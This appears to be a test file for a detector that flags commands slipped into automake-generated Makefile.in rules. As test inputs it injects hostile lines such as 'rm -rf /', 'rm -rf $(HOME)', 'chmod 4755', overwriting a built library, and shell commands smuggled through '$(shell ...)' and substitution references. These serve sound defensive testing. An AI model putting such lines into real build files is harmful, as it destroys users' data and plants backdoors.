    expect(keys.has(valueLineKey('n=1;  \\'))).toBe(false)
    expect(keys.has(valueLineKey('d = e'))).toBe(true)
    expect(installLinesNotFromTemplates(`check-TESTS:\n\t@echo a; \\\n  printf b;  \\\nn=1;  \\\n\techo c\n`, [], keys)).toEqual([])
    expect(installLinesNotFromTemplates(`check-TESTS:\n\t@echo a; \\\n  sh README;  \\\n\techo c\n`, [], keys).map((f) => f.line)).toEqual([3])
  })

  it("holds a test's log rule the Makefile.am writes itself to its lines and automake's", () => {
    const { text, at } = edited('t-two.log', /^\t@p=/, (l) => `${l}\n\tcp README x; \\`)
    expect(installLinesNotFromTemplates(text, [`${am[0] ?? ''}\nt-two.log: t-one.log\n`]).map((f) => [f.target, f.line, f.own])).toEqual([['t-two.log', at + 1, true]])
    expect(installLinesNotFromTemplates(text, [`${am[0] ?? ''}\nt-two.log: t-one.log\n\tcp README x; \\\n`])).toEqual([])
  })
})

describe("automake's rules that clean, recurse and gather hold only its templates' lines or its program's removals", () => {
  // the project with a subdirectory, so that automake writes its recursive rule and `all`'s recipe, and files to clean
  const withSubdirs: Record<string, string> = {
    ...PROJECT,
    'configure.ac': (PROJECT['configure.ac'] ?? '').replace('AC_CONFIG_FILES([Makefile])', 'AC_CONFIG_FILES([Makefile sub/Makefile])'),
    'Makefile.am': `SUBDIRS = sub\nCLEANFILES = gen.tmp\nDISTCLEANFILES = demo.cache\n${PROJECT['Makefile.am'] ?? ''}`,
    'sub/Makefile.am': 'dist_pkgdata_DATA = s.txt\n',
  }
  const amWithSubdirs = [withSubdirs['Makefile.am'] ?? '']
  const made = generatedMakefileIn('stagelight-clean-lines-', withSubdirs)

  it("finds nothing in what the installed automake wrote, by every release's templates and its program's removals", () => {
    for (const rule of ['all', 'all-am', '$(am__recursive_targets)', 'mostlyclean-generic', 'clean-generic', 'distclean-generic', 'maintainer-clean-generic', 'clean-binPROGRAMS', 'clean-libLTLIBRARIES', 'mostlyclean-compile', 'clean-libtool', 'distclean', 'maintainer-clean']) {
      expect(made.text.split('\n').some((l) => l.replace(/^@\w+@/, '').startsWith(`${rule}:`)), rule).toBe(true)
    }
    expect(made.text).toMatch(/^\t\$\(MAKE\) \$\(AM_MAKEFLAGS\) all-recursive$/m)
    expect(installLinesNotFromTemplates(made.text, amWithSubdirs, bundled)).toEqual([])
  })

  it('reports a command added to or put into a rule that builds, recurses or cleans, on its line', () => {
    const cases: [string, RegExp, (l: string) => string, 0 | 1][] = [
      ['all', /^\t\$\(MAKE\) \$\(AM_MAKEFLAGS\) all-recursive$/, (l) => `${l}\n\t@cp README .libs/libdemo.so.0`, 1],
      ['all', /^\t\$\(MAKE\) \$\(AM_MAKEFLAGS\) all-recursive$/, (l) => `${l} install-exec-am`, 0],
      ['$(am__recursive_targets)', /^\tdot_seen=no; \\$/, (l) => l.replace('dot_seen=no;', 'dot_seen=no; sh README;'), 0],
      ['clean-generic', /^\t-.*\$\(CLEANFILES\)$/, (l) => `${l}; sh README`, 0],
      ['distclean-generic', /\$\(DISTCLEANFILES\)$/, (l) => `${l}\n\t-rm -rf $(HOME)`, 1],
      ['distclean-generic', /\$\(DISTCLEANFILES\)$/, (l) => `${l}\n\t-rm -rf /`, 1],
      ['distclean-generic', /\$\(DISTCLEANFILES\)$/, (l) => `${l}\n\t-rm -f $(shell sh README)`, 1],
      ['mostlyclean-compile', /^\t-/, (l) => `${l}\n\t-chmod 4755 .libs/*`, 1],
      ['clean-binPROGRAMS', /^\t/, (l) => `${l}\n\t-rm -f $(HOME)/.bashrc`, 1],
      ['maintainer-clean', /^\t-rm -f Makefile$/, (l) => `${l}\n\t-cp README .libs/libdemo.so.0`, 1],
    ]
    for (const [rule, line, change, added] of cases) {
      const { text: changed, at } = edited(rule, line, change, made.text)
      expect(installLinesNotFromTemplates(changed, amWithSubdirs).map((f) => [f.target, f.line]), `${rule} ${change('')}`).toEqual([[rule, at + added]])
    }
  })

  it('holds a rule with no recipe of its own to none, and an added rule of a -local name unless the Makefile.am writes it', () => {
    for (const rule of ['all-am', 'install', 'uninstall']) {
      const lines = made.text.split('\n')
      let at = lines.findIndex((l) => l.startsWith(`${rule}:`))
      expect(at, rule).toBeGreaterThanOrEqual(0)
      while (lines[at]?.endsWith('\\')) at++
      lines.splice(at + 1, 0, '\tsh README')
      expect(installLinesNotFromTemplates(lines.join('\n'), amWithSubdirs).map((f) => f.line), rule).toEqual([at + 2])
    }
    const local = `${made.text}\nclean-local:\n\tsh README\n`
    expect(installLinesNotFromTemplates(local, amWithSubdirs).map((f) => f.target)).toEqual(['clean-local'])
    expect(installLinesNotFromTemplates(local, [`${amWithSubdirs[0] ?? ''}\nclean-local:\n\tsh README\n`])).toEqual([])
  })

  it("reads a removal continued over lines as one command, and a release script's fallback removal as one", () => {
    const manual = 'clean-aminfo:\n\t-test -z "demo.dvi demo.pdf \\\n\t  demo.html" \\\n\t|| rm -rf demo.dvi demo.pdf \\\n\t  demo.html\n'
    expect(installLinesNotFromTemplates(manual, [])).toEqual([])
    expect(installLinesNotFromTemplates(manual.replace('demo.html\n', 'demo.html; sh README\n'), []).map((f) => f.line)).toEqual([2, 3, 4, 5])
    const fallback = 'CLEANFILES = x\nclean-binPROGRAMS:\n\t-test -z "$(bin_PROGRAMS)" || rm -f $(bin_PROGRAMS) > /dev/null 2>&1 || /bin/rm -f $(bin_PROGRAMS)\n'
    expect(installLinesNotFromTemplates(fallback.replace('CLEANFILES', 'bin_PROGRAMS'), [])).toEqual([])
    expect(installLinesNotFromTemplates(fallback, []).map((f) => f.line)).toEqual([3])
    expect(installLinesNotFromTemplates('am__rm_f = rm -f\nTEST_LOGS = a.log\nmostlyclean-generic:\n\t-$(am__rm_f) $(TEST_LOGS:.log=.trs)\n\t-rm -rf $(TEST_LOGS:.log=$(shell sh README))\n', []).map((f) => f.line)).toEqual([5])
  })

  it("holds older automakes' recursive rule, and a substitution reference to names and suffixes", () => {
    for (const header of ['$(RECURSIVE_TARGETS) $(RECURSIVE_CLEAN_TARGETS)', '$(RECURSIVE_CLEAN_TARGETS)', '$(am__recursive_targets)']) {
      expect(installLinesNotFromTemplates(`${header}:\n\t@fail= failcom='exit 1'; \\\n\tsh README\n`, []).map((f) => [f.target, f.line]), header).toEqual([[header, 3]])
    }
    // make replaces the suffix with what follows `=`, which the shell then reads
    expect(installLinesNotFromTemplates('CLEANFILES = a.x\nclean-generic:\n\t-rm -f $(CLEANFILES:.x=.y)\n\t-rm -f $(CLEANFILES:.x=;sh README;)\n', []).map((f) => f.line)).toEqual([4])
  })

  it('reads a value or a header continued over many lines, indented or not, in linear time', () => {
    // each continued line read again as a header, with the rest of the value joined to it, took 31 s for 20,000 lines: for these, hours
    for (const indent of ['', ' ', '\t']) {
      const continued = Array.from({ length: 200_000 }, (_, k) => `${indent}w${k} \\`).join('\n')
      expect(installLinesNotFromTemplates(`X = a \\\n${continued}\nend\nall-am:\n\tsh README\n`, []).map((f) => f.line), JSON.stringify(indent)).toEqual([200_004])
      expect(installLinesNotFromTemplates(`all-am: a \\\n${continued}\nend\n\tsh README\n`, []).map((f) => f.line), JSON.stringify(indent)).toEqual([200_003])
    }
  })

  it('reads a cleaning line of a million blanks in linear time', () => {
    const blanks = ' '.repeat(1_000_000)
    expect(installLinesNotFromTemplates(`CLEANFILES = x\nclean-generic:\n\t-rm -f $(CLEANFILES)${blanks}x${blanks};\n`, []).map((f) => f.line)).toEqual([3])
    expect(installLinesNotFromTemplates(`clean-generic:\n\t-test -z "a${blanks}b${blanks}"${blanks}|| rm -f a${blanks}>${blanks}/dev/null${blanks}2>&1${blanks}!\n`, []).map((f) => f.line)).toEqual([2])
  })
})

describe("automake's rules with no recipe hold none, and those that make tags and other manuals hold their templates' lines", () => {
  // the project with a fragment, so that automake writes the empty rule of the Makefile's inputs
  const withFragment: Record<string, string> = {
    ...PROJECT,
    'Makefile.am': `include $(srcdir)/extra.am\n${PROJECT['Makefile.am'] ?? ''}`,
    'extra.am': 'EXTRA_DIST = notes.txt\n',
  }
  const amWithFragment = [withFragment['Makefile.am'] ?? '', withFragment['extra.am'] ?? '']
  const made = generatedMakefileIn('stagelight-recipeless-', withFragment)

  const RECIPELESS = ['util/u.$(OBJEXT)', 'am--depfiles', '$(am__aclocal_m4_deps)', '$(srcdir)/extra.am $(am__empty)']
  const TEMPLATED = ['$(am__depfiles_remade)', 'ID', 'TAGS', 'ctags-am', 'GTAGS', 'cscopelist-am', 'html-am', 'install-pdf', 'info']

  /** the Makefile.in with `line` put after the whole header of `rule`, and that line's number */
  function withLine(rule: string, line: string, from = made.text): { text: string; at: number } {
    const lines = from.split('\n')
    let at = lines.findIndex((l) => l.startsWith(`${rule}:`))
    if (at < 0) throw new Error(`no rule ${rule}`)
    while (lines[at]?.endsWith('\\')) at++
    lines.splice(at + 1, 0, line)
    return { text: lines.join('\n'), at: at + 2 }
  }

  it("finds nothing in what the installed automake wrote, by every release's templates alone", () => {
    for (const rule of [...RECIPELESS, ...TEMPLATED]) expect(made.text.split('\n').some((l) => l.startsWith(`${rule}:`)), rule).toBe(true)
    expect(installLinesNotFromTemplates(made.text, amWithFragment, bundled)).toEqual([])
  })

  it('reports any line given to a rule automake writes with no recipe, even one of its own templates, as recipeless', () => {
    // the first line of automake's own rule that makes the dependency files' placeholders
    const lines = made.text.split('\n')
    const templated = lines[lines.indexOf('$(am__depfiles_remade):') + 1] ?? ''
    expect(templated).toMatch(/^\t@\$\(MKDIR_P\)/)
    for (const rule of RECIPELESS) {
      for (const line of ['\t@cp $(srcdir)/README $@', templated]) {
        const { text: changed, at } = withLine(rule, line)
        expect(installLinesNotFromTemplates(changed, amWithFragment), `${rule} ${line}`).toEqual([{ target: rule, line: at, text: line, words: [line.trim()], recipeless: true }])
      }
    }
  })

  it("knows those rules over a continued header, in older automakes' spelling, and leaves one the Makefile.am writes to its lines", () => {
    const continued = 'lib/x.lo: lib/$(am__dirstamp) \\\n\tlib/$(DEPDIR)/$(am__dirstamp)\n\tcp README $@\n'
    expect(installLinesNotFromTemplates(continued, []).map((f) => [f.target, f.line])).toEqual([['lib/x.lo', 3]])
    // the stamps all on continued lines, the header's first line naming none
    const later = 'lib/y.$(OBJEXT):  \\\n\tlib/$(am__dirstamp) \\\n\tlib/$(DEPDIR)/$(am__dirstamp)\n\tcp README $@\n'
    expect(installLinesNotFromTemplates(later, []).map((f) => [f.target, f.line])).toEqual([['lib/y.$(OBJEXT)', 4]])
    expect(installLinesNotFromTemplates('x.$(OBJEXT): $(am__dirstamp)\n\tcp README $@\n', []).map((f) => f.line)).toEqual([2])
    expect(installLinesNotFromTemplates('am--fnord $(TEST_LOGS) $(TEST_LOGS:.log=.trs): $(am__force_recheck)\n\tsh README\n', []).map((f) => f.target)).toEqual(['am--fnord $(TEST_LOGS) $(TEST_LOGS:.log=.trs)'])
    // a directory with nothing to tag, BSD make's list, the targets configure.ac adds to the recursion
    for (const header of ['tags TAGS:', 'ctags CTAGS:', 'cscope cscopelist:', '.MAKE: $(am__recursive_targets) install-am install-strip', 'doc-html: doc-html-recursive', 'doc-html-am: doc-html-local']) {
      expect(installLinesNotFromTemplates(`${header}\n\tsh README\n`, []).map((f) => [f.line, f.recipeless]), header).toEqual([[2, true]])
    }
    expect(installLinesNotFromTemplates('doc-html: doc-man-recursive\n\tsh README\n', [])).toEqual([])
    // the empty -local rule automake writes where the Makefile.am does not, 1.17's end to make's built-in rules, older fragments' rule
    for (const header of ['doc-html-local:', '%:: RCS/%,v', '%:: SCCS/s.%', 'src/Makemodule.am $(srcdir)/src/Makemodule-local.am:']) {
      expect(installLinesNotFromTemplates(`${header}\n\tsh README\n`, []).map((f) => [f.line, f.recipeless]), header).toEqual([[2, true]])
    }
    expect(installLinesNotFromTemplates('doc-html-local:\n\tsh README\n', ['doc-html-local:\n\tsh README\n'])).toEqual([])
    // automake's own hooks it never writes: a rule of that name the Makefile.am does not write is left to the check of what is hooked in
    expect(installLinesNotFromTemplates('install-data-local:\n\tsh README\n', [])).toEqual([])
    // a rule of the Makefile.am's own that only make dist runs is left alone, whatever its name
    expect(installLinesNotFromTemplates('dist-clean-local:\n\trm -f x\n', ['dist-clean-local:\n\tsh README\n'])).toEqual([])
    // an object's own rule in the Makefile.am: automake merges it, and its lines are the Makefile.am's
    const own = 'util/u.$(OBJEXT): util/gen.h\n\t@echo building u\n'
    const { text: merged } = withLine('util/u.$(OBJEXT)', '\t@echo building u')
    expect(installLinesNotFromTemplates(merged, [...amWithFragment, own])).toEqual([])
    // a rule that only names the stamp among other prerequisites is not the one automake writes
    expect(installLinesNotFromTemplates('x.o: x.c $(am__dirstamp)\n\tcp README $@\n', [])).toEqual([])
  })

  it('knows the rules that remake the configuration header, in maintainer mode, under any name and in a subdirectory', () => {
    const header = (mode: string, input: string, stamp: string) =>
      `${input}: ${mode}$(am__configure_deps) \n\t($(am__cd) $(top_srcdir) && $(AUTOHEADER))\n\trm -f ${stamp}\n\ttouch $@\n\tsh README\n`
    for (const [mode, input, stamp] of [
      ['', '$(srcdir)/config.h.in', 'stamp-h1'],
      ['@MAINTAINER_MODE_TRUE@ ', '$(srcdir)/config.h.in', 'stamp-h1'],
      ['', '$(top_srcdir)/lib/config.hin', 'lib/stamp-h1'],
    ]) {
      expect(installLinesNotFromTemplates(header(mode ?? '', input ?? '', stamp ?? ''), []).map((f) => [f.target, f.line]), input).toEqual([[input, 5]])
    }
    // with the old acconfig.h autoheader reads, which automake adds as a prerequisite
    const withAcconfig = header('', '$(srcdir)/config.h.in', 'stamp-h1').replace('$(am__configure_deps) ', '$(am__configure_deps) $(top_srcdir)/acconfig.h')
    expect(installLinesNotFromTemplates(withAcconfig, []).map((f) => f.line)).toEqual([5])
    const stamped = 'lib/config.h: lib/stamp-h1\n\t@test -f $@ || rm -f lib/stamp-h1\n\t@test -f $@ || $(MAKE) $(AM_MAKEFLAGS) lib/stamp-h1\n\tsh README\n'
    expect(installLinesNotFromTemplates(stamped, []).map((f) => [f.target, f.line])).toEqual([['lib/config.h', 4]])
    expect(installLinesNotFromTemplates(stamped.replace('rm -f lib/stamp-h1', 'rm -f lib/stamp-h1; sh README'), []).map((f) => f.line)).toEqual([2, 4])
  })

  it("holds a parser's header rule to the lines automake's program writes, the parser's name put back", () => {
    const rule = 'src/parse.h: src/parse.c\n\t@if test ! -f $@; then rm -f src/parse.c; else :; fi\n\t@if test ! -f $@; then $(MAKE) $(AM_MAKEFLAGS) src/parse.c; else :; fi\n'
    expect(installLinesNotFromTemplates(rule, [])).toEqual([])
    expect(installLinesNotFromTemplates(rule.replace('rm -f src/parse.c', 'rm -f $(HOME)'), []).map((f) => f.line)).toEqual([2])
    expect(installLinesNotFromTemplates(`${rule}\tsh README\n`, []).map((f) => f.line)).toEqual([4])
  })

  it('reports a line added to or changed in the rules that make tags, dependency files and other manuals', () => {
    for (const rule of TEMPLATED) {
      const { text: changed, at } = withLine(rule, '\t@cp $(srcdir)/README $@')
      expect(installLinesNotFromTemplates(changed, amWithFragment).map((f) => [f.target, f.line]), rule).toEqual([[rule, at]])
    }
    const { text: changed, at } = edited('$(am__depfiles_remade)', /^\t@\$\(MKDIR_P\)/, (l) => `${l}; sh README`, made.text)
    expect(installLinesNotFromTemplates(changed, amWithFragment).map((f) => f.line)).toEqual([at])
  })

  it("holds older automakes' loop of the recursive tag rules to the lines their program writes", () => {
    const loop = (cd: string, target: string, extra = '') => `${target}-recursive:\n\tlist='$(SUBDIRS)'; for subdir in $$list; do \\\n\t  test "$$subdir" = . || (${cd} $$subdir && $(MAKE) $(AM_MAKEFLAGS) ${target}); \\\n${extra}\tdone\n`
    for (const cd of ['$(am__cd)', 'cd']) for (const target of ['tags', 'ctags']) expect(installLinesNotFromTemplates(loop(cd, target), []), `${cd} ${target}`).toEqual([])
    expect(installLinesNotFromTemplates(loop('cd', 'tags', '\t  sh README; \\\n'), []).map((f) => f.line)).toEqual([4])
    expect(installLinesNotFromTemplates(loop('cd', 'tags').replace('AM_MAKEFLAGS) tags', 'AM_MAKEFLAGS) install'), []).map((f) => f.line)).toEqual([3])
  })
})

describe("automake's rules that make manuals from Texinfo and parsers from grammars hold only its templates' lines", () => {
  // two manuals in a subdirectory (the second's version file numbered), generic and per-program grammar rules
  const documented: Record<string, string> = {
    'configure.ac': 'AC_INIT([demo], [1.0])\nAC_CONFIG_MACRO_DIRS([m4])\nAM_INIT_AUTOMAKE([foreign subdir-objects])\nAC_PROG_CC\nAC_PROG_YACC\nAM_PROG_LEX\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n',
    'Makefile.am': 'info_TEXINFOS = doc/demo.texi doc/other.texi\nbin_PROGRAMS = calc tool\ncalc_SOURCES = parse.y scan.l\ncalc_YFLAGS = -d\ntool_SOURCES = grammar.y\n',
    'doc/demo.texi': '\\input texinfo\n@setfilename demo.info\n@include version.texi\n@bye\n',
    'doc/other.texi': '\\input texinfo\n@setfilename other.info\n@include vers-other.texi\n@bye\n',
    'parse.y': '',
    'scan.l': '',
    'grammar.y': '',
  }
  const amDocumented = [documented['Makefile.am'] ?? '']
  const RULES = ['.l.c', '.y.c', 'calc-parse.c', '$(srcdir)/doc/demo.info', 'doc/demo.dvi', 'doc/demo.pdf', 'doc/demo.html', '$(srcdir)/doc/stamp-vti', '$(srcdir)/doc/stamp-1', '.dvi.ps']
  const made = generatedMakefileIn('stagelight-texinfo-yacc-', documented)

  it("finds nothing in what the installed automake wrote, by every release's templates alone", () => {
    for (const rule of RULES) expect(made.text.split('\n').some((l) => l.startsWith(`${rule}:`)), rule).toBe(true)
    expect(installLinesNotFromTemplates(made.text, amDocumented, bundled)).toEqual([])
  })

  it('reports a line added after each header, on its line', () => {
    for (const rule of [...RULES, '$(srcdir)/doc/vers-other.texi']) {
      const lines = made.text.split('\n')
      const at = lines.findIndex((l) => l.startsWith(`${rule}:`))
      lines.splice(at + 1, 0, '\t@sh $(srcdir)/doc/demo.texi')
      expect(installLinesNotFromTemplates(lines.join('\n'), amDocumented).map((f) => [f.target, f.line]), rule).toEqual([[rule, at + 2]])
    }
  })

  // a variant the masks were not written against: a manual at the top in `.texinfo`, a C++ parser and scanner, per-program flags for both
  const variantAm = 'info_TEXINFOS = guide.texinfo\nbin_PROGRAMS = calcxx\ncalcxx_SOURCES = parse.yy scan.ll\ncalcxx_YFLAGS = -d\ncalcxx_LFLAGS = -8\n'
  const variant = generatedMakefileIn('stagelight-texinfo-yacc-variant-', {
    'configure.ac': 'AC_INIT([demo], [2.0])\nAC_CONFIG_MACRO_DIRS([m4])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CXX\nAC_PROG_YACC\nAM_PROG_LEX\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n',
    'Makefile.am': variantAm,
    'guide.texinfo': '\\input texinfo\n@setfilename guide.info\n@include version.texi\n@bye\n',
    'parse.yy': '',
    'scan.ll': '',
  })

  it('holds a variant of those rules it was not written against: a top-level .texinfo manual, a C++ parser and scanner', () => {
    const lines = variant.text.split('\n')
    const headers = lines.filter((l) => /^(?:calcxx-parse\.cc|calcxx-scan\.cc|\$\(srcdir\)\/guide\.info|guide\.(?:dvi|pdf|html)|\$\(srcdir\)\/stamp-vti|\.texinfo\.\w+):/.test(l))
    expect(headers.map((h) => h.split(':')[0])).toEqual(expect.arrayContaining(['calcxx-parse.cc', 'calcxx-scan.cc', '$(srcdir)/guide.info', 'guide.pdf', '$(srcdir)/stamp-vti']))
    expect(installLinesNotFromTemplates(variant.text, [variantAm], bundled)).toEqual([])
    for (const header of headers) {
      const at = lines.indexOf(header)
      const added = [...lines.slice(0, at + 1), '\t@sh guide.texinfo', ...lines.slice(at + 1)].join('\n')
      expect(installLinesNotFromTemplates(added, []).map((f) => f.line), header).toEqual([at + 2])
    }
    // the scanner's per-program compile command, with a shell in place of lex
    const { text: changed, at } = edited('calcxx-scan.cc', /-- \$\(LEX\)/, (l) => l.replace('-- $(LEX)', '-- $(SHELL)'), variant.text)
    expect(installLinesNotFromTemplates(changed, []).map((f) => f.line)).toEqual([at])
  })

  it('masks only what automake fills in: a command put where a name, a flag or the compiler goes is reported', () => {
    const cases: [string, RegExp, (l: string) => string][] = [
      ['$(srcdir)/doc/stamp-vti', /> vti\.tmp/, (l) => l.replace('vti.tmp$$$$', 'vti.tmp$$$$; sh README')],
      ['$(srcdir)/doc/stamp-vti', /mdate-sh/, (l) => l.replace('$(srcdir)/mdate-sh', '$(srcdir)/../tests/mdate-sh')],
      ['$(srcdir)/doc/stamp-1', /cmp -s/, (l) => l.replace('$(srcdir)/doc/vers-other.texi', '$(srcdir)/doc/vers-other.texi;sh')],
      ['$(srcdir)/doc/demo.info', /\$\(MAKEINFOFLAGS\)/, (l) => l.replace('-I doc', '-I doc;sh README')],
      ['calc-parse.c', /-- \$\(YACC\)/, (l) => l.replace('-- $(YACC)', '-- $(SHELL)')],
      ['.y.c', /\$\(YACCCOMPILE\)/, (l) => l.replace('$(YACCCOMPILE)', '$(SHELL)')],
      ['.l.c', /\$\(LEXCOMPILE\)/, (l) => l.replace('$(AM_V_LEX)', '$(AM_V_LEX)sh README;')],
    ]
    for (const [rule, line, change] of cases) {
      const { text: changed, at } = edited(rule, line, change, made.text)
      expect(changed, rule).not.toBe(made.text)
      expect(installLinesNotFromTemplates(changed, amDocumented).map((f) => [f.target, f.line]), `${rule} ${change('')}`).toEqual([[rule, at]])
    }
  })
})
